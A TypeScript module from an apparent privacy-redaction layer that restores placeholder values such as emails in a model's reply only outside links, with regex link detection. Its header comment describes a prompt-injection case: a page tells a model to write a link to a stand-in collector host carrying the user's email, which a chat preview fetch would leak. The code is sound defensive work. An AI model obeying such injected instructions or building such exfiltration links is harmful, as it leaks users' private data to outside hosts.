/**
 * Placeholders inside a link are not put back into a reply. A link to another host carries what
 * it holds there, and a chat platform fetches the link for its preview (a markdown client fetches
 * an image at once): a model, told by a page it read, that writes
 * `https://collector.example/?e=[EMAIL_1]` would otherwise have the user's own address sent to
 * that host, with no click. What counts as a link fails closed: anything a renderer, a browser
 * or a platform would turn into a URL it fetches (protocol-relative `//host/`, `https:/host`,
 * `https:\\host`, a bare `host.com/?`, a markdown target with spaces, an HTML attribute).
 */

import { PLACEHOLDER } from "./sanitize.ts";

/** How far back a link's start is looked for; a longer run of non-space text counts as a link. */
const LINK_REACH = 4096;

/**
 * What in the run of non-space text before a placeholder makes it part of something a markdown
 * renderer, a browser or a chat platform fetches or links: a scheme followed by any slash or
 * backslash (`https:/x`, `https:\\x` are mended by browsers), a protocol-relative `//` or
 * `\\`, a `www.` name, or a host name or address followed by a path, query or fragment
 * (`collector.com/?e=`, `10.0.0.5:8080/`), which auto-linkers link bare.
 */
const LINK_IN_RUN = new RegExp(
  [
    String.raw`[a-z][a-z0-9+.-]*:[\/\\]`,
    String.raw`[\/\\]{2}`,
    String.raw`(?:^|[^a-z0-9-])www\.`,
    String.raw`(?:[a-z0-9-]+\.)+[a-z][a-z0-9-]*(?::\d+)?[\/\\?#]`,
    String.raw`\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?[\/\\?#]`,
    String.raw`[a-z0-9-]+:\d+[\/\\?#]`,
  ].join("|"),
  "i",
);

/**
 * Whether `offset` of `text` stands inside a link, failing closed: inside a run of non-space
 * characters that holds a URL's start (see `LINK_IN_RUN`), inside a markdown link's target
 * (`](…`, where `<…>` allows spaces), or inside an HTML tag (`<img src=… alt="…">`).
 */
export function insideLink(text: string, offset: number): boolean {
  let start = offset;
  const limit = Math.max(0, offset - LINK_REACH);
  while (start > limit && !/\s/.test(text[start - 1])) start--;
  if (start === limit && limit > 0) return true;
  if (LINK_IN_RUN.test(text.slice(start, offset))) return true;
  return inMarkdownTarget(text, offset, limit) || inTag(text, offset, limit);
}

/** Whether `offset` follows a `](` whose target has not ended yet. */
function inMarkdownTarget(text: string, offset: number, limit: number): boolean {
  // Within the reach only: a search back to the start for each placeholder cost a long reply
  // its length times its placeholders.
  const reach = text.slice(limit, offset);
  const open = reach.lastIndexOf("](");
  if (open < 0) return false;
  const target = reach.slice(open + 2);
  // `<…>` ends at `>`; a bare target at `)`. A renderer lenient about spaces in it still
  // fetches it, so a space does not end it here.
  return target.startsWith("<") ? !target.includes(">") : !target.includes(")");
}

/** Whether `offset` stands inside an HTML tag (`<img …`), whose attributes a browser loads. */
function inTag(text: string, offset: number, limit: number): boolean {
  const reach = text.slice(limit, offset);
  const open = reach.lastIndexOf("<");
  if (open < 0 || !/[a-z]/i.test(reach[open + 1] ?? "")) return false;
  return !reach.includes(">", open);
}

/**
 * `text` with each placeholder outside a link put back by `restore` (a vault's). `before` is the
 * text that came just before it in the same reply (a stream's earlier chunks), where a link that
 * `text` continues may have begun.
 *
 * @example
 * ```ts
 * import { restoreOutsideLinks } from "./restore_links.ts";
 * const restore = (p: string) => p === "[EMAIL_1]" ? "ada@example.org" : p;
 * console.log(restoreOutsideLinks("mail [EMAIL_1] or see https://x.example/?e=[EMAIL_1]", restore));
 * // "mail ada@example.org or see https://x.example/?e=[EMAIL_1]"
 * ```
 */
export function restoreOutsideLinks(
  text: string,
  restore: (placeholder: string) => string,
  before = "",
): string {
  const context = before.slice(-LINK_REACH);
  const full = context + text;
  return text.replace(
    PLACEHOLDER,
    (placeholder, offset: number) =>
      insideLink(full, context.length + offset) ? placeholder : restore(placeholder),
  );
}
